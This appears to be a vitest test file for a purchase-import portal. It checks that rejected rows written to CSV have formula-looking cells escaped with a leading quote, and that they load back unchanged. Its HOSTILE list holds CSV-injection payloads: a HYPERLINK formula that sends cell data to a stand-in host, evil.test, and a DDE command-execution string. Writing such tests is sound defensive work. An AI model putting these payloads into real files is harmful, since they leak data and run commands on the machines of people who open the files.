// The reject file is opened in a spreadsheet: the values of a hostile upload come back as text,
// never as formulas, and load again as they were.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import { decodeImportRow } from '../../src/model/purchase-import.ts';
import { rejectFile } from './reject-file.ts';

const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'portal-rejects-'));
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

const HOSTILE = ['=HYPERLINK("http://evil.test/?x="&A1,"Click")', "=cmd|' /C calc'!A0", '+SUM(1,2)', '@SUM(A1:A9)', '-1+1'];

describe('the reject file', () => {
  it('writes formula-looking cells as text, header and reason included', async () => {
    const file = path.join(dir, 'formulas.csv');
    const rejects = rejectFile(file, () => ['=header', 'description']);
    await rejects.add(2, '=reason', HOSTILE.slice(0, 2));
    await rejects.add(3, 'quantity must be a number above 0', HOSTILE.slice(2, 4));
    await rejects.add(4, 'ok', [HOSTILE[4]!, 'Plain text']);
    expect(await rejects.close()).toBe(3);
    const cells = Papa.parse<string[]>(fs.readFileSync(file, 'utf8').trim()).data.flat();
    // Every cell a spreadsheet would evaluate starts with a quote instead.
    expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
    for (const h of HOSTILE) expect(cells).toContain(`'${h}`);
    expect(cells).toContain("'=header");
    expect(cells).toContain("'=reason");
    expect(cells).toContain('Plain text');
  });

  it('loaded again as an import file, a neutralised cell reads as the value it was', () => {
    const decoded = decodeImportRow({
      distributor_platform_id: 'CP-000001', merchant_platform_id: 'MP-1', invoice_id: 'INV-1', invoice_date: '2026-10-01',
      min: 'M1', description: "'=HYPERLINK(\"x\")", manufacturer_platform_id: 'MF-1', quantity: '2',
    });
    expect(decoded.ok && decoded.value.description).toBe('=HYPERLINK("x")');
  });
});
